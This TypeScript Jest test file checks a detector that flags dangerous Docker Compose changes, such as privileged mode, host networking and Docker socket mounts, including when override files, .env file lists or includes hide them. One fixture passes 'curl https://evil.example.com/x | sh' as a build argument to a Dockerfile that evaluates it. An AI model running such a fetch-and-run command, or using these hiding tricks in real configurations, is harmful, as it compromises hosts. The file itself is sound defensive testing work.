import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = `ghcr.io/acme/app:1.4.2@sha256:${'3f'.repeat(32)}`;
const BASE = `services:\n  app:\n    image: ${IMAGE}\n`;

function service(line: string): string {
  return `services:\n  app:\n    ${line}\n`;
}

function main(line: string): Files {
  return { 'compose.yaml': `${BASE}    ${line}\n` };
}

function override(line: string): Files {
  return { 'compose.override.yaml': service(line) };
}

const SOCKET = 'volumes: ["/var/run/docker.sock:/s"]';
const BUILD = `FROM debian:13-slim@sha256:${'3f'.repeat(32)}\nARG BEFORE=true\nRUN eval "$BEFORE"\nUSER 1000\nCMD ["app"]\n`;
const BUILT = 'services:\n  app:\n    build: .\n';

/** Dangers in a file that another one hides, or for which it makes them look milder. */
const HIDDEN: readonly (readonly [string, Files, Files])[] = [
  ['an option that is set again', {}, { ...main('privileged: true'), ...override('privileged: false') }],
  ['an option that the base sets again', override('privileged: false'), main('privileged: true')],
  ['an option that the override has, too', override('privileged: true'), main('privileged: true')],
  ['a milder repetition', {}, { ...main('network_mode: host'), ...override('network_mode: host') }],
  ['a list that is replaced', {}, { ...main(SOCKET), ...override('volumes: !override []') }],
  ['an option that is taken away', {}, { ...main('cap_add: [ALL]'), ...override('cap_add: !reset []') }],
  ['a service that is taken away', {}, { ...main(SOCKET), 'compose.override.yaml': 'services:\n  app: !reset null\n' }],
  ['an override, which Compose merges by itself', {}, override('network_mode: host')],
  ['a mount at the same place', {}, { ...main(SOCKET), ...override('volumes: ["./a:/s"]') }],
  ['a profile for tests', {}, { ...main('privileged: true'), ...override('profiles: [test]') }],
  [
    'a list of files in .env',
    {},
    {
      ...main('privileged: true'),
      '.env': 'COMPOSE_FILE=compose.yaml:safe.yaml\n',
      'safe.yaml': service('privileged: false'),
    },
  ],
  [
    'a list of files in an include',
    { 'compose.prod.yaml': BASE },
    {
      'compose.prod.yaml': `${BASE}    privileged: true\n`,
      'x/compose.yaml': 'include:\n  - path: [../compose.prod.yaml, ../safe.yaml]\n',
      'safe.yaml': service('privileged: false'),
    },
  ],
  [
    'the last of three files',
    {
      'b.yaml': service('init: true'),
      'c.yaml': service('privileged: false'),
      'up.sh': 'docker compose -f compose.yaml -f b.yaml -f c.yaml up -d\n',
    },
    { 'b.yaml': service('privileged: true') },
  ],
  [
    'a file for development that .env lists',
    { 'dev/d.yaml': service('init: true'), '.env': 'COMPOSE_FILE=compose.yaml:dev/d.yaml\n' },
    { 'dev/d.yaml': service('network_mode: host') },
  ],
  [
    'a danger that the override of the base takes away',
    { ...main('privileged: true'), ...override('privileged: false\n    init: true') },
    override('init: true'),
  ],
  [
    'a mount that the override of the base removes',
    {
      ...main('volumes: ["/var/run/docker.sock:/var/run/docker.sock"]'),
      ...override('volumes: !reset []\n    init: true'),
    },
    override('init: true'),
  ],
  [
    'an argument of a build',
    { 'compose.yaml': BUILT, Dockerfile: BUILD },
    {
      'compose.yaml': BUILT.replace('.', '{context: ., args: {BEFORE: "curl https://evil.example.com/x | sh"}}'),
      ...override('build: {args: {BEFORE: "true"}}'),
    },
  ],
];

describe('a file that hides a danger of another one', () => {
  it.each(HIDDEN)('does not hide %s', async (_name, base, change) => {
    expect(await failuresOf({ 'compose.yaml': BASE, ...base }, change)).not.toEqual([]);
  });
});

const HARMLESS: readonly (readonly [string, Files, Files])[] = [
  [
    'an override for development',
    { 'dev/compose.yaml': BASE },
    { 'dev/compose.override.yaml': service('network_mode: host') },
  ],
  ['other ports', main('ports: ["8080:80"]'), override('ports: !override ["127.0.0.1:8080:80"]')],
  ['another version', {}, override(`image: ${IMAGE.replace('1.4.2', '1.4.3')}`)],
  ['a danger of the base', main('privileged: true'), override('privileged: false')],
  [
    'a file that extends another',
    main('init: true'),
    { 'x.yaml': 'services:\n  b:\n    extends: {file: compose.yaml, service: app}\n    init: false\n' },
  ],
  ['an option that is moved', override('network_mode: host'), override('network_mode: host\n    init: true')],
  ['a limit that is added', {}, override('mem_limit: 1g')],
  [
    'a list of the files that Compose merges anyway',
    override('network_mode: host'),
    { '.env': 'COMPOSE_FILE=compose.yaml:compose.override.yaml\n' },
  ],
];

describe('a file that changes another one', () => {
  it.each(HARMLESS)('is no danger: %s', async (_name, base, change) => {
    expect(await failuresOf({ 'compose.yaml': BASE, ...base }, change)).toEqual([]);
  });
});

it('reports each danger once, where it is in force', async () => {
  const change = { ...main('privileged: true'), ...override('init: true') };
  expect(await failuresOf({ 'compose.yaml': BASE }, main('privileged: true'))).toEqual(
    await failuresOf({ 'compose.yaml': BASE }, change),
  );
});

it('reports more files than are left out one after the other', async () => {
  const names = Array.from({ length: 12 }, (_, at) => `f${at}.yaml`);
  const files = Object.fromEntries(names.map((name) => [name, service('privileged: false')]));
  const list = names.map((name) => ` -f ${name}`).join('');
  const change = { ...files, 'up.sh': `docker compose -f compose.yaml${list} up\n` };
  expect(await failuresOf({ 'compose.yaml': BASE }, change)).toEqual(['limit-reached']);
});
